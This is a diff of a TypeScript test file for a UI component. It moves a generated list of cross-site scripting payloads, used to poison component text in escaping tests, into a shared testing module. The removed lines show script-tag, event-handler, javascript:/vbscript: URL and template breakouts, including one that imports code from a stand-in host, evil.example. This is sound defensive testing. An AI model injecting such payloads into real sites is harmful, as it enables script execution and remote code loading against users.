@@ -14,27 +14,8 @@ import { BotContent } from './seo/bot-content.tsx';
 import { closeupSeo } from './seo/index.ts';
 import { Slides } from './slides/index.ts';
 import { PinStrip } from './strips/index.ts';
+import { HOSTILE } from './testing/hostile-texts.ts';
 import { Closeup } from './index.ts';
-
-const SCRIPTS = ['alert(1)', 'alert`1`', 'top[8680439..toString(30)](1)', 'import("//evil.example/x.js")'];
-const AROUND = [
-  (code: string) => `<script>${code}</script>`,
-  (code: string) => `"><script>${code}</script>`,
-  (code: string) => `'><img src=x onerror=${code}>`,
-  (code: string) => `</title><svg onload=${code}>`,
-  (code: string) => `javascript:${code}`,
-  (code: string) => `java\tscript:${code}`,
-  (code: string) => ` \u0001javascript:${code}`,
-  (code: string) => `data:text/html,<script>${code}</script>`,
-  (code: string) => `" onmouseover="${code}`,
-  (code: string) => `\${${code}}{{${code}}}`,
-  (code: string) => `<!--<script>${code}//-->`,
-  (code: string) => `<a href="vbscript:${code}">x</a>`,
-  (code: string) => `]]><math><mi xlink:href="javascript:${code}">`,
-  (code: string) => `\u202e</script\u00a0><iframe srcdoc="<script>${code}</script>">`,
-  (code: string) => `red;background:url(javascript:${code})`,
-];
-const HOSTILE = AROUND.flatMap((around) => SCRIPTS.map(around));
 
 /** The same value with every text in it replaced; ids, codes and numbers stay what they are. */
 function poisoned(value: unknown, text: string, key = ''): unknown {
